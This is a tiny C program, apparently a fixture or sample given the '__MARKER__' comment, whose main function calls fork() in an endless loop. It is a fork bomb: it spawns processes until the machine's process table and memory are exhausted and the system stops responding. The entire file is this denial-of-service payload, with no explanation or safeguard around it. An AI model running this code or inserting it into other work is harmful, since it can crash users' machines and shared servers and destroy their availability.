#include <unistd.h>
// __MARKER__
int main() {
    while (true) fork();
}
